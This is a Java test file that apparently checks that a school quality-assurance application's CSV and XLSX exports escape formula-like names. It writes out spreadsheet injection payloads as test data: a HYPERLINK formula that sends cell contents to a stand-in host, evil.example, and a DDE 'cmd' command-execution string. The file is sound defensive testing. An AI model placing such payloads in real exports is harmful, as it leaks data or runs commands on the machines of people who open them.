package th.qaflow.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.ByteArrayInputStream;
import java.io.InputStreamReader;
import java.nio.charset.StandardCharsets;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.jdbc.core.simple.JdbcClient;
import org.springframework.mock.web.MockHttpSession;
import org.springframework.test.web.servlet.MockMvc;
import th.qaflow.cycle.CycleService;
import th.qaflow.kernel.AcademicYears;
import th.qaflow.onesqa.ExternalAssessments;
import th.qaflow.support.EngineTestClock;
import th.qaflow.support.ProcessTest;
import th.qaflow.support.WebSessions;

/**
 * Formula injection: school (and district) names that start with = + - @ TAB or CR come out of
 * every CSV and XLSX export as text with a leading apostrophe (the one guard, {@link
 * SpreadsheetText}): monitoring's matrix and overdue list, ONESQA's readiness list and the
 * synthesis workbook.
 */
@ProcessTest
class SpreadsheetExportsTest {
  static final int YEAR = 2598;
  static final Map<String, String> EVIL = new LinkedHashMap<>();

  static {
    EVIL.put("1099010001", "=HYPERLINK(\"http://evil.example/?\"&A1,\"คลิก\")");
    EVIL.put("1099010002", "+SUM(1,2)");
    EVIL.put("1099010003", "-2+3");
    EVIL.put("1099010004", "@SUM(A1)");
    EVIL.put("1099010005", "\t=1+1");
    EVIL.put("1099010006", "\r=1+1");
  }

  @Autowired MockMvc mvc;
  @Autowired JdbcClient jdbc;
  @Autowired CycleService cycles;
  @Autowired ExternalAssessments external;

  final Map<String, String> original = new LinkedHashMap<>();
  String districtName;

  @BeforeEach
  void setUp() {
    int ce = AcademicYears.firstCalendarYear(YEAR);
    EngineTestClock.at(LocalDateTime.of(ce, 5, 16, 8, 0));
    cycles.startYear("1099", YEAR, "qaofficer");
    external.start("1099", YEAR, "qaofficer");
    // every school is late with its standards once the clock passes 24 May
    EngineTestClock.at(LocalDateTime.of(ce, 5, 29, 9, 0));
    EVIL.forEach(
        (code, name) -> {
          original.put(
              code,
              jdbc.sql("select name_th from school where code = ?")
                  .param(code)
                  .query(String.class)
                  .single());
          jdbc.sql("update school set name_th = ? where code = ?").param(name).param(code).update();
        });
    districtName =
        jdbc.sql("select name_th from district where code = '1099'").query(String.class).single();
    jdbc.sql("update district set name_th = ? where code = '1099'")
        .param("=cmd|' /C calc'!A0")
        .update();
  }

  @AfterEach
  void restore() {
    EngineTestClock.reset();
    original.forEach(
        (code, name) ->
            jdbc.sql("update school set name_th = ? where code = ?")
                .param(name)
                .param(code)
                .update());
    if (districtName != null) {
      jdbc.sql("update district set name_th = ? where code = '1099'").param(districtName).update();
    }
  }

  @Test
  void everyCsvAndXlsxExportShowsFormulaLikeNamesAsText() throws Exception {
    MockHttpSession officer = WebSessions.login(mvc, "qaofficer");
    for (String what : List.of("matrix", "overdue")) {
      List<String> csv =
          csvCells(download("/monitoring/districts/1099/" + what + ".csv?year=" + YEAR, officer));
      assertSafe(what + ".csv", csv, true);
      List<String> xlsx =
          xlsxCells(download("/monitoring/districts/1099/" + what + ".xlsx?year=" + YEAR, officer));
      assertSafe(what + ".xlsx", xlsx, true);
    }
    assertSafe(
        "readiness.csv",
        csvCells(download("/external/readiness.csv?district=1099&year=" + YEAR, officer)),
        true);
    assertSafe(
        "readiness.xlsx",
        xlsxCells(download("/external/readiness.xlsx?district=1099&year=" + YEAR, officer)),
        true);
    List<String> synthesis = xlsxCells(download("/synthesis/1099/" + YEAR + ".xlsx", officer));
    assertSafe("synthesis.xlsx", synthesis, false);
    assertThat(synthesis).anyMatch(c -> c.startsWith("'=cmd|"));
  }

  @Test
  void theGuardItself() {
    for (String name : EVIL.values()) {
      assertThat(SpreadsheetText.safe(name)).isEqualTo("'" + name);
    }
    assertThat(SpreadsheetText.safe("โรงเรียนบ้านริมคลอง")).isEqualTo("โรงเรียนบ้านริมคลอง");
    assertThat(SpreadsheetText.safe("")).isEmpty();
    assertThat(SpreadsheetText.safe(null)).isEmpty();
  }

  private byte[] download(String url, MockHttpSession session) throws Exception {
    return mvc.perform(get(url).session(session))
        .andExpect(status().isOk())
        .andReturn()
        .getResponse()
        .getContentAsByteArray();
  }

  /**
   * No cell starts like a formula; with {@code names}, every evil school name is there with its
   * apostrophe.
   */
  private static void assertSafe(String export, List<String> cells, boolean names) {
    assertThat(cells)
        .as(export)
        .isNotEmpty()
        .noneMatch(c -> !c.isEmpty() && "=+-@\t\r".indexOf(c.charAt(0)) >= 0);
    if (names) {
      assertThat(cells)
          .as(export)
          .contains(EVIL.values().stream().map(n -> "'" + n).toArray(String[]::new));
    }
  }

  private static List<String> csvCells(byte[] csv) throws Exception {
    int start = csv.length >= 3 && (csv[0] & 0xff) == 0xEF ? 3 : 0;
    List<String> cells = new ArrayList<>();
    for (CSVRecord r :
        CSVFormat.EXCEL.parse(
            new InputStreamReader(
                new ByteArrayInputStream(csv, start, csv.length - start),
                StandardCharsets.UTF_8))) {
      r.forEach(cells::add);
    }
    return cells;
  }

  private static List<String> xlsxCells(byte[] xlsx) throws Exception {
    List<String> cells = new ArrayList<>();
    try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
      for (Sheet sheet : book) {
        for (Row row : sheet) {
          for (Cell cell : row) {
            if (cell.getCellType() == CellType.FORMULA) {
              cells.add("=" + cell.getCellFormula());
            } else if (cell.getCellType() == CellType.STRING) {
              cells.add(cell.getStringCellValue());
            }
          }
        }
      }
    }
    return cells;
  }
}
